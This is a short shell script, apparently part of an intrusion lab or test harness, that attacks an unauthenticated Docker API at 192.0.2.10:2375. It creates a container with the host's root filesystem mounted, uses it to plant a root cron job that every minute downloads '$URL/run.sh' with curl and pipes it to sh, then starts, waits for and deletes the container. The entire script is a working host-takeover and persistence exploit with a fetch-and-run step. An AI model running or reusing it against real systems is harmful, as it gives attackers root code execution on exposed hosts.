# Has Docker start a container that sees the root of the host, and write a job of cron there.
. ./intruder.sh
api() { curl -fsS -X POST -H 'Content-Type: application/json' "http://192.0.2.10:2375/containers/$1" "${@:2}" >/dev/null; }
echo ready
read -r _
job="* * * * * root curl -fsS $URL/run.sh | sh"
api create?name=tool -d "{\"Image\": \"small\", \"Cmd\": [\"sh\", \"-c\", \"echo '$job' >/host/etc/cron.d/cache\"],
    \"HostConfig\": {\"Binds\": [\"/:/host\"], \"NetworkMode\": \"none\"}}"
api tool/start
api tool/wait
curl -fsS -X DELETE http://192.0.2.10:2375/containers/tool
echo done
read -r _ || true
